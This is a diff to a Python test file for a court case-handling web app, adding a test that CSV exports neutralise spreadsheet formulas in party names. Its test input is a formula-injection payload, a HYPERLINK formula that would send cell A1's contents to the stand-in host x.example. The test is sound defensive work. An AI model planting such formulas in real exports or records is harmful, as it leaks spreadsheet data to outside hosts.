@@ -4,6 +4,8 @@ statistics and the CSV; isolation; both languages."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 from fastapi import FastAPI
@@ -178,3 +180,13 @@ def test_chinese_is_the_default_language(ch: ApiClients, client: TestClient) -> 
     assert "登记案件" in page.text
     english = client.get("/case-handling/cases/new?lang=en")
     assert "Register a case" in english.text
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(ch: ApiClients) -> None:
+    """A party name typed as a formula is exported quoted, so a spreadsheet shows it as text."""
+    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
+    parties = [{"role": "plaintiff", "name": typed}, {"role": "defendant", "name": "乙公司"}]
+    case = register(ch, number="（2026）湘1002民初9200号", parties=parties)
+    exported = ch.as_("ch.judge").get("/case-handling/cases.csv?q=9200").text
+    [row] = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
+    assert row["number"] == case["number"] and row["parties"] == f"'{typed}; 乙公司"
